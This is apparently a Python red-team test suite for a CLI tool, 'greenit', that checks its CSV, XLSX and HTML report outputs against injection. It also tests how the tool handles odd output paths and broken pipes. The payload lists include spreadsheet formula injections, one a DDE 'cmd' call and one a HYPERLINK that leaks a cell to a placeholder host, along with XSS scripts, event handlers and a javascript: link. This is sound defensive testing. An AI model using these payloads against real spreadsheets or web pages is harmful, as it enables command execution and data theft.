"""Outputs: no formula in any CSV/XLSX cell (read back as Excel would), no script in the HTML
(headless Chromium), atomic writes in odd places, broken pipes, names near the limits.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

from redteam_kit import (
    AI_LOG,
    PYTHON,
    ROOT,
    case,
    env_for,
    formulas_in_csv,
    formulas_in_xlsx,
    greenit,
    json_result,
    user_error,
    verdict,
    write,
)

PAYLOADS = [
    '=HYPERLINK("http://x.invalid/?q="&A1,"clic")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\ufe661+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "%0A=1+1",
    "-2-3",
]


def hostile_inventory(tmp: Path) -> Path:
    header = "Nom;Entité;Statut;Fabricant;Modèle;Type;Lieu;Date d'achat;Numéro de série;Quantité"
    lines = [header]
    for i, payload in enumerate(PAYLOADS):
        cell = '"' + payload.replace('"', '""') + '"'
        lines.append(";".join([cell, cell, cell, cell, cell, "portable", cell, "01-01-2022", cell, "1"]))
        lines.append(";".join([cell, cell, "En service", "Dell", "Latitude", cell, cell, cell, cell, cell]))
        del i
    lines.append('"=HYPERLINK(1)";DRH;En service;Dell;Latitude;portable;HdV;01-01-2022;x;1')
    return write(tmp / "parc.csv", "\n".join(lines) + "\n")


def hostile_header_inventory(tmp: Path) -> Path:
    header = ";".join(['"' + p.replace('"', '""') + '"' for p in PAYLOADS[:6]] + ["Type", "Quantité"])
    row = ";".join(["x"] * 6 + ["portable", "1"])
    return write(tmp / "=HYPERLINK(1).csv", header + "\n" + row + "\n")


@case("output", "rows-out CSV and XLSX: formula payloads in every text column", "no live formula read back")
def rows_out_payloads(tmp: Path) -> tuple[bool, str]:
    path = hostile_inventory(tmp)
    r = greenit("estimate", path, "--rows-out", tmp / "lignes.csv", "--xlsx-out", tmp / "r.xlsx", "--json")
    if r.code not in (0, 2) or not (tmp / "lignes.csv").exists():
        return False, r.brief()
    bad = formulas_in_csv(tmp / "lignes.csv") + formulas_in_xlsx(tmp / "r.xlsx")
    data, problem = json_result(r)
    if problem is None and data["rows_in"] != 2 * len(PAYLOADS) + 1:
        problem = f"rows_in {data['rows_in']} for {2 * len(PAYLOADS) + 1} rows"
    return verdict(problem or (f"{len(bad)} live: {bad[:4]}" if bad else None), r.brief())


@case("output", "hostile headers and file name into rows-out and XLSX", "no live formula read back")
def rows_out_headers(tmp: Path) -> tuple[bool, str]:
    path = hostile_header_inventory(tmp)
    r = greenit("estimate", path, "--rows-out", tmp / "lignes.csv", "--xlsx-out", tmp / "r.xlsx", "--json")
    if r.code not in (0, 2) or not (tmp / "lignes.csv").exists():
        return False, r.brief()
    bad = formulas_in_csv(tmp / "lignes.csv") + formulas_in_xlsx(tmp / "r.xlsx")
    return verdict(f"{len(bad)} live: {bad[:4]}" if bad else None, r.brief())


@case("output", "report's inventaire_lignes.csv with formula payloads", "no live formula read back")
def report_rows(tmp: Path) -> tuple[bool, str]:
    path = hostile_inventory(tmp)
    r = greenit("report", path, "--out", tmp / "out", "--title", "=HYPERLINK(1)")
    csvs = list((tmp / "out").glob("*.csv"))
    if r.code not in (0, 2) or not csvs:
        return False, r.brief()
    bad = [cell for f in csvs for cell in formulas_in_csv(f)]
    return verdict(f"{len(bad)} live: {bad[:4]}" if bad else None, r.brief())


def hostile_ai_log(tmp: Path) -> Path:
    lines = ["run_id;project;phase;duration;accelerator;accelerator_count;location"]
    for payload in PAYLOADS:
        cell = '"' + payload.replace('"', '""') + '"'
        lines.append(f"{cell};{cell};{cell};1 h;{cell};1;{cell}")
        lines.append(f"{cell};{cell};training;1 h;A100;1;FRA")
    return write(tmp / "runs.csv", "\n".join(lines) + "\n")


def hostile_usage_log(tmp: Path) -> Path:
    lines = ["Service;Fournisseur;Modèle;Requêtes;Jetons de sortie;Période"]
    for payload in PAYLOADS:
        cell = '"' + payload.replace('"', '""') + '"'
        lines.append(f"{cell};{cell};{cell};10;100;2025-03")
        lines.append(f"{cell};Mistral AI;mistral-small-latest;10;100;{cell}")
    return write(tmp / "usage.csv", "\n".join(lines) + "\n")


@case("output", "ai estimate --rows-out with formula payloads", "no live formula read back")
def ai_rows_out(tmp: Path) -> tuple[bool, str]:
    r = greenit(
        "ai",
        "estimate",
        hostile_ai_log(tmp),
        hostile_usage_log(tmp),
        "--rows-out",
        tmp / "runs_out.csv",
        "--json",
    )
    if not (tmp / "runs_out.csv").exists():
        return False, r.brief()
    bad = formulas_in_csv(tmp / "runs_out.csv")
    data, problem = json_result(r, rows="runs")
    if problem is None and data["runs_in"] != 4 * len(PAYLOADS):
        problem = f"runs_in {data['runs_in']} for {4 * len(PAYLOADS)} rows"
    return verdict(problem or (f"{len(bad)} live: {bad[:4]}" if bad else None), r.brief())


@case("output", "track log with a formula project name", "no live formula in the log")
def track_log_payload(tmp: Path) -> tuple[bool, str]:
    problems = []
    for payload in PAYLOADS[:12]:
        r = greenit(
            "track",
            "--log",
            tmp / "runs.csv",
            "--project",
            payload,
            "--phase",
            "inference",
            "--",
            "true",
            env=env_for(stub=True),
        )
        if r.code != 0:
            problems.append(f"{payload!r}: {r.brief()}")
    bad = formulas_in_csv(tmp / "runs.csv") if (tmp / "runs.csv").exists() else ["no log"]
    return verdict("; ".join(problems + bad[:4]) or None)


# ---- HTML ------------------------------------------------------------------------------------

#: each payload, if it runs, sets the body's id to "pwned" + a number (never in the source as is)
SCRIPTS = [
    "<script>document.body.id='pw'+'ned1'</script>",
    "<img src=x onerror=\"document.body.id='pw'+'ned2'\">",
    "\"><svg onload=\"document.body.id='pw'+'ned3'\">",
    "</title><script>document.body.id='pw'+'ned4'</script>",
    "<iframe srcdoc=\"<script>parent.document.body.id='pw'+'ned5'</script>\"></iframe>",
    "{{7*7}}<style>body{background:url(http://x.invalid/)}</style>",
    "$\\mathrm{<script>}$",
    "]]><script>document.body.id='pw'+'ned6'</script>",
]


def html_inventory(tmp: Path) -> Path:
    lines = ["Nom;Entité;Statut;Fabricant;Modèle;Type;Lieu;Date d'achat;Quantité"]
    for payload in SCRIPTS:
        cell = '"' + payload.replace('"', '""') + '"'
        lines.append(f"{cell};{cell};En service;{cell};{cell};portable;{cell};01-01-2022;2")
        lines.append(f"{cell};{cell};{cell};Dell;{cell};{cell};{cell};{cell};{cell}")
    return write(tmp / "parc.csv", "\n".join(lines) + "\n")


def html_ai(tmp: Path) -> list[Path]:
    runs = ["run_id;project;phase;duration;accelerator;accelerator_count;location;requests"]
    usage = ["Service;Fournisseur;Modèle;Requêtes;Jetons de sortie;Période"]
    for payload in SCRIPTS:
        cell = '"' + payload.replace('"', '""') + '"'
        runs.append(f"{cell};{cell};inference;2 h;A100;1;FRA;100")
        runs.append(f"{cell};{cell};{cell};1 h;{cell};1;{cell};{cell}")
        usage.append(f"{cell};Mistral AI;mistral-small-latest;10;100;2025-03")
        usage.append(f"{cell};{cell};{cell};10;100;{cell}")
    return [
        write(tmp / "runs.csv", "\n".join(runs) + "\n"),
        write(tmp / "usage.csv", "\n".join(usage) + "\n"),
    ]


def chromium_dom(html: Path) -> str:
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        raise RuntimeError("no chromium")
    done = subprocess.run(
        [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--virtual-time-budget=3000",
            "--dump-dom",
            html.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    return done.stdout


@case("html", "hostile strings everywhere in the report (title, rows, AI, file name)", "no script runs")
def html_escaping(tmp: Path) -> tuple[bool, str]:
    inventory = html_inventory(tmp)
    named = write(tmp / "<img src=x onerror=alert(1)>.csv", inventory.read_bytes())
    r = greenit(
        "report",
        inventory,
        named,
        "--ai",
        *html_ai(tmp),
        "--out",
        tmp / "out",
        "--title",
        SCRIPTS[3],
        "-s",
        "model=" + SCRIPTS[0] + ":" + SCRIPTS[1],
        "-s",
        "lifespan+2",
        "--headcount",
        "10",
    )
    report = tmp / "out" / "report.html"
    if not report.exists():
        return False, r.brief()
    dom = chromium_dom(report)
    html = report.read_text(encoding="utf-8")
    problems = []
    if 'id="pwned' in dom:
        problems.append("a script ran: " + dom[dom.index('id="pwned') :][:20])
    for marker in ("<script>document", "<img src=x", "<svg onload", "<iframe", "<style>body"):
        if marker in html.lower():
            problems.append(f"{marker} unescaped in the HTML")
    return verdict("; ".join(problems) or None, r.brief())


@case("html", "a factor overlay with hostile labels and a javascript: source URL", "no script, no live link")
def html_factor_overlay(tmp: Path) -> tuple[bool, str]:
    from redteam_options import DEVICE_HEADER, device_row

    factors = tmp / "f"
    write(
        factors / "devices.csv",
        DEVICE_HEADER + device_row(label='"<img src=x onerror=alert(1)>"', source="evil"),
    )
    base = (ROOT / "emission_factors" / "sources.csv").read_text(encoding="utf-8").splitlines()[0]
    write(
        factors / "sources.csv",
        base + "\nevil,<script>document.body.id='pw'+'ned7'</script>,"
        "\"<b>t</b>\",2025,javascript:document.body.id='pw'+'ned8',x,y\n",
    )
    inventory = write(tmp / "parc.csv", "Type;Quantité\nportable;3\n")
    r = greenit("report", inventory, "--factors", factors, "--out", tmp / "out")
    report = tmp / "out" / "report.html"
    if not report.exists():
        return verdict(user_error(r), r.brief())
    dom = chromium_dom(report)
    html = report.read_text(encoding="utf-8").lower()
    problems = ["a script ran"] if 'id="pwned' in dom else []
    problems += ["live javascript: link"] if 'href="javascript:' in html else []
    problems += ["<script unescaped"] if "<script>document" in html else []
    return verdict("; ".join(problems) or None, r.brief())


@case("html", "the report makes no request outside the file", "no http(s) src/href/url() to load")
def html_self_contained(tmp: Path) -> tuple[bool, str]:
    r = greenit(
        "report",
        ROOT / "examples" / "ville-exemple" / "inventaire_glpi.csv",
        "--ai",
        AI_LOG,
        "--out",
        tmp / "out",
    )
    html = (tmp / "out" / "report.html").read_text(encoding="utf-8")
    import re

    loads = re.findall(r"(?:src|href)=\"(https?:[^\"]+)\"|url\((https?:[^)]+)\)|@import", html)
    return verdict(f"external loads: {loads[:3]}" if loads else None, r.brief())


# ---- atomic outputs in odd places ------------------------------------------------------------


def _output_case(name: str, setup, *, option: str = "--rows-out", expect_error: bool | None = True) -> None:
    expected = {True: "exit 2, 1-2 lines", False: "written", None: "written or exit 2"}[expect_error]

    @case("output", name, expected + ", input intact")
    def check(tmp: Path) -> tuple[bool, str]:
        inventory = write(tmp / "parc.csv", "Type;Quantité\nportable;3\n")
        before = inventory.read_bytes()
        target = setup(tmp, inventory)
        r = greenit("estimate", inventory, option, target, "--json", timeout=60)
        if expect_error is None:
            problem = user_error(r) if r.code else json_result(r)[1]
        else:
            problem = user_error(r) if expect_error else json_result(r)[1]
        if inventory.read_bytes() != before:
            problem = "the input was overwritten"
        leftovers = [p.name for p in tmp.rglob(".*.tmp")]
        if leftovers:
            problem = (problem or "") + f" temporary files left: {leftovers}"
        return verdict(problem, r.brief())


_output_case("rows-out to /dev/full", lambda tmp, inv: "/dev/full")
_output_case("rows-out to a folder", lambda tmp, inv: tmp)
_output_case("rows-out under a file", lambda tmp, inv: inv / "lignes.csv")
_output_case("rows-out to the input through a symlink", lambda tmp, inv: _symlink(tmp / "lien.csv", inv))
_output_case("rows-out to the input through ./ and ..", lambda tmp, inv: tmp / "x" / ".." / "parc.csv")
_output_case(
    "rows-out to the input through a hard link",
    lambda tmp, inv: _hardlink(tmp / "dur.csv", inv),
    expect_error=None,
)
_output_case("xlsx-out to the input", lambda tmp, inv: inv, option="--xlsx-out")
_output_case(
    "rows-out with a 250-character name", lambda tmp, inv: tmp / ("l" * 246 + ".csv"), expect_error=False
)
_output_case("rows-out with a 256-character name", lambda tmp, inv: tmp / ("l" * 252 + ".csv"))
_output_case("rows-out in a 4,000-character path", lambda tmp, inv: _deep(tmp, 4000), expect_error=False)
_output_case("rows-out to a symlink loop", lambda tmp, inv: _loop(tmp), expect_error=None)
_output_case("rows-out to /proc/self/status", lambda tmp, inv: "/proc/self/status")
_output_case("xlsx-out named .csv", lambda tmp, inv: tmp / "r.csv", option="--xlsx-out", expect_error=False)


def _symlink(link: Path, target: Path) -> Path:
    link.symlink_to(target)
    return link


def _hardlink(link: Path, target: Path) -> Path:
    os.link(target, link)
    return link


def _deep(tmp: Path, length: int) -> Path:
    path = tmp
    while len(str(path)) < length - 300:
        path = path / ("d" * 200)
    path.mkdir(parents=True)
    return path / "lignes.csv"


def _loop(tmp: Path) -> Path:
    (tmp / "a.csv").symlink_to(tmp / "b.csv")
    (tmp / "b.csv").symlink_to(tmp / "a.csv")
    return tmp / "a.csv"


@case("output", "an inventory with a NUL and an ESC among 40 text cells", "read as text, 2 rows")
def control_characters(tmp: Path) -> tuple[bool, str]:
    rows = ["Nom;Type;Quantité"] + [f"PC-{i};portable;1" for i in range(20)]
    rows += ["=1+1\x00;portable;1", "\x1b=1;portable;1"]
    r = greenit("estimate", write(tmp / "parc.csv", "\n".join(rows) + "\n"), "--json")
    data, problem = json_result(r)
    return verdict(problem or (None if data["rows_in"] == 22 else f"rows_in {data['rows_in']}"), r.brief())


@case("output", "rows-out and xlsx-out on the same path", "exit 2, or both kinds of content kept apart")
def same_output_twice(tmp: Path) -> tuple[bool, str]:
    inventory = write(tmp / "parc.csv", "Type;Quantité\nportable;3\n")
    r = greenit(
        "estimate", inventory, "--rows-out", tmp / "out.xlsx", "--xlsx-out", tmp / "out.xlsx", "--json"
    )
    if r.code == 2:
        return verdict(user_error(r), r.brief())
    return False, f"exit {r.code}: one output silently replaced the other"


@case("output", "report --out onto the folder of its inputs (inventaire_lignes.csv as input)", "input intact")
def report_over_input(tmp: Path) -> tuple[bool, str]:
    inventory = write(tmp / "inventaire_lignes.csv", "Type;Quantité\nportable;3\n")
    before = inventory.read_bytes()
    r = greenit("report", inventory, "--out", tmp)
    problem = None if inventory.read_bytes() == before else "the input was overwritten"
    return verdict(problem or (None if r.code in (0, 2) else r.brief()), r.brief())


@case("output", "report --out on an existing file", "exit 2, 1-2 lines")
def report_on_file(tmp: Path) -> tuple[bool, str]:
    inventory = write(tmp / "parc.csv", "Type;Quantité\nportable;3\n")
    r = greenit("report", inventory, "--out", inventory)
    return verdict(
        user_error(r) or (None if inventory.read_text().startswith("Type") else "input replaced"), r.brief()
    )


def _closed_stdout(args: list[str]) -> tuple[int, str]:
    """Run greenit with a stdout pipe whose reader has gone (like ``| head -c 0``)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    done = subprocess.run(
        [PYTHON, "-m", "greenit", *args], stdout=write_end, stderr=subprocess.PIPE, env=env_for(), timeout=60
    )
    os.close(write_end)
    return done.returncode, done.stderr.decode("utf-8", "replace")


for args in (
    ["estimate", str(ROOT / "examples/ville-exemple/inventaire_glpi.csv"), "--json"],
    ["estimate", str(ROOT / "examples/ville-exemple/inventaire_glpi.csv")],
    ["ai", "estimate", str(AI_LOG)],
    ["factors", "list"],
    ["--help"],
):

    @case("output", f"stdout closed early: {' '.join(a for a in args if '/' not in a)}", "no traceback")
    def broken_pipe(tmp: Path, args: list[str] = args) -> tuple[bool, str]:
        code, err = _closed_stdout(args)
        leak = "Traceback" in err or "Exception ignored" in err or "BrokenPipe" in err
        return verdict(f"exit {code}: {err.strip()[-200:]}" if leak else None, f"exit {code}")


@case("output", "JSON output stays strict for a sample town with every option", "strict JSON")
def json_everything(tmp: Path) -> tuple[bool, str]:
    r = greenit(
        "report",
        ROOT / "examples/ville-exemple/inventaire_glpi.csv",
        "--ai",
        AI_LOG,
        ROOT / "examples/ville-exemple/usage_ia_generative.csv",
        "--out",
        tmp / "o",
        "--headcount",
        "3",
        "-s",
        "lifespan+2",
        "-s",
        "reuse=50%",
        "-s",
        "requests=-20%",
    )
    try:
        from redteam_kit import strict_json

        strict_json((tmp / "o" / "summary.json").read_text(encoding="utf-8"))
    except (ValueError, OSError) as error:
        return False, f"{error} / {r.brief()}"
    _ = json
    return True, r.brief()
